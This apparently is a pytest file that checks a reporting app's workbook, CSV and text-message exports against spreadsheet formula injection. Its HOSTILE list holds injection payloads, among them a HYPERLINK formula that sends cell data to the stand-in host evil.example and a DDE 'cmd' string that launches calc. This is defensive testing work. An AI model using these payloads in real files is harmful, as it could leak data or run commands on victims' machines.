"""Hostile names leave GridDesk as text: no exported workbook holds a formula cell, no CSV value
starts with a character a spreadsheet would run, and text messages carry cleaned names.

The small demo branch gets hostile team, specialist, grid, customer, address, product and
task-outcome texts (as a core-system extract could carry them); every export is then read
back, as XML inside the workbook and as CSV fields."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from export_demo import AS_OF, demo  # noqa: F401 - the module's demo fixture
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.models import Customer, Grid, Policy, Specialist, Task, Team
from app.services.exports import resolve_scope
from app.services.exports.detail import write_detail
from app.services.exports.meeting import write_meeting_workbook
from app.services.files.inert import csv_value, is_risky
from app.services.files.table_file import TableData, write_table
from app.services.intake.sms import SpecialistContact, agent_change_text, specialist_change_text
from app.services.metrics.formatting import render_persistency
from app.services.metrics.persistency import persistency_report
from app.services.periods import Period

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile(demo):  # noqa: F811
    """Give the demo's names hostile texts, one pattern after another."""

    def pick(i: int) -> str:
        return HOSTILE[i % len(HOSTILE)][:40] + f" #{i}"  # names are at most 50 characters

    with demo.Session() as s, s.begin():
        for model, column in (
            (Team, Team.name),
            (Specialist, Specialist.name),
            (Grid, Grid.name),
        ):
            for i, row_id in enumerate(s.scalars(select(model.id)).all()):
                s.execute(update(model).where(model.id == row_id).values({column.key: pick(i)}))
        ids = s.scalars(select(Customer.id).order_by(Customer.id).limit(60)).all()
        for i, cid in enumerate(ids):
            s.execute(
                update(Customer)
                .where(Customer.id == cid)
                .values(name=pick(i), address=pick(i + 1) + " 成都市")
            )
        for i, pid in enumerate(s.scalars(select(Policy.id).order_by(Policy.id).limit(60))):
            s.execute(update(Policy).where(Policy.id == pid).values(product=pick(i)))
        for i, tid in enumerate(s.scalars(select(Task.id).order_by(Task.id).limit(60))):
            s.execute(update(Task).where(Task.id == tid).values(outcome=pick(i)))
    return demo


def _formula_cells(path: Path) -> list[str]:
    """Return every <f> element written into the workbook's sheets."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


def _risky_csv_values(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [v for row in csv.reader(fh) for v in row if is_risky(v)]


def _all_texts(path: Path) -> set[str]:
    wb = load_workbook(path, read_only=True)
    try:
        return {
            v
            for ws in wb.worksheets
            for row in ws.iter_rows(values_only=True)
            for v in row
            if isinstance(v, str)
        }
    finally:
        wb.close()


@pytest.mark.slow
def test_detail_workbook_and_csv_hold_hostile_names_as_text(hostile, tmp_path):
    senior = hostile.user("senior")
    with hostile.Session() as s:
        sc = resolve_scope(s, None, branch_id=hostile.branch_id, user=senior)
        write_detail(s, tmp_path / "detail.xlsx", scope=sc, lang="en", user=senior)
        for table in ("customers", "policies", "tasks"):
            write_detail(
                s, tmp_path / f"{table}.csv", scope=sc, lang="en", user=senior, tables=[table]
            )
    assert _formula_cells(tmp_path / "detail.xlsx") == []
    texts = _all_texts(tmp_path / "detail.xlsx")
    # The names are kept whole, as text: nothing is lost, nothing runs.
    assert any(t.startswith(LINK[:40]) for t in texts)
    assert any(t.startswith("@SUM(A1)") for t in texts)
    for table in ("customers", "policies", "tasks"):
        path = tmp_path / f"{table}.csv"
        assert _risky_csv_values(path) == []
        with open(path, encoding="utf-8-sig", newline="") as fh:
            values = [v for row in csv.reader(fh) for v in row]
        assert any(v.startswith("'=") for v in values)


def test_meeting_workbook_holds_hostile_names_as_text(hostile, tmp_path):
    senior = hostile.user("senior")
    path = tmp_path / "meeting.xlsx"
    with hostile.Session() as s:
        sc = resolve_scope(s, None, branch_id=hostile.branch_id, user=senior)
        write_meeting_workbook(
            s, path, period=Period.parse("2026-Q2"), as_of=AS_OF, scope=sc, user=senior
        )
    assert _formula_cells(path) == []
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if is_risky(c.value)]
    assert cells, "the hostile team and specialist names are in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_table_export_holds_hostile_cells_as_text(tmp_path):
    table = TableData(
        headers=["=Name", "Count"],
        kinds=["text", "number"],
        values=[[h, -3] for h in HOSTILE],
        texts=[[h, "-3"] for h in HOSTILE],
    )
    write_table(tmp_path / "t.xlsx", table)
    write_table(tmp_path / "t.csv", table)
    assert _formula_cells(tmp_path / "t.xlsx") == []
    ws = load_workbook(tmp_path / "t.xlsx").active
    # A carriage return is stored escaped, as the file format asks (_x000D_); Excel and
    # LibreOffice show it as one, openpyxl leaves the escape as it is.
    shown = [r[0].replace("_x000D_", "\r") for r in ws.iter_rows(min_row=2, values_only=True)]
    assert shown == HOSTILE
    assert [r[1] for r in ws.iter_rows(min_row=2, values_only=True)] == [-3] * len(HOSTILE)
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=Name", "Count"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-3"] * len(HOSTILE)  # a plain number stays a number


def test_command_line_csv_report_names_hostile_teams_as_text(hostile):
    with hostile.Session() as s:
        rows = persistency_report(
            s, period=Period.parse("2026-Q2"), as_of=AS_OF, by="team", branch_id=hostile.branch_id
        )
    out = render_persistency(rows, "csv")
    values = [v for row in csv.reader(out.splitlines()) for v in row]
    assert not any(is_risky(v) for v in values)
    assert any(v.startswith("'" + LINK[:40]) for v in values)


@pytest.mark.parametrize("name", HOSTILE)
def test_text_messages_carry_cleaned_names(name):
    who = SpecialistContact(name=name, phone="13800000000")
    for text in (
        specialist_change_text(signature=name, customer_name=name, id_number=None, specialist=who),
        agent_change_text(signature=name, customer_name=name, id_number=None, specialist=who),
    ):
        assert "\t" not in text and "\r" not in text
        for mark in ("【", "尊敬的", "专员"):
            after = text.split(mark, 1)[1]
            assert not after.startswith(("=", "+", "-", "@")), text


def test_signed_numbers_stay_numbers_in_csv():
    assert csv_value("-12.5") == "-12.5"
    assert csv_value("+8613800000000") == "+8613800000000"
    assert csv_value("-") == "'-"
    assert csv_value("=1+1") == "'=1+1"
    assert csv_value(-3) == -3


def test_a_signed_figure_with_a_unit_stays_as_shown_but_an_expression_does_not():
    assert csv_value("+8 pts") == "+8 pts"
    assert csv_value("-3.5 个百分点") == "-3.5 个百分点"
    assert csv_value("+8 pts!A1") == "'+8 pts!A1"
    assert csv_value("-1+cmd") == "'-1+cmd"


@pytest.mark.parametrize(
    "name",
    [
        "张三",
        "  王\u3000芳 ",  # an ideographic space: kept as a space, then folded
        "李\u200b四",  # zero width space (format): a space
        "赵\u2028六",  # line separator
        "钱\u00a0七",  # no-break space
        "孙🙂八",
        "=SUM(A1)",
        "\u202e周九",  # right-to-left override (format)
        "",
    ],
)
def test_a_name_is_cleaned_the_same_whichever_way_it_is_read(name):
    """clean_name reads a printable name at C speed and any other character by character:
    both give what reading every character's category gives."""
    import unicodedata

    from app.services.files.inert import TRIGGERS
    from app.services.intake.sms import _BRACKETS, NAME_LIMIT, clean_name

    text = "".join(
        " " if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") else ch for ch in name
    )
    text = " ".join(text.translate(_BRACKETS).split())
    while text and (text.startswith(TRIGGERS) or text[0] == " "):
        text = text[1:]
    assert clean_name(name) == text[:NAME_LIMIT].strip()
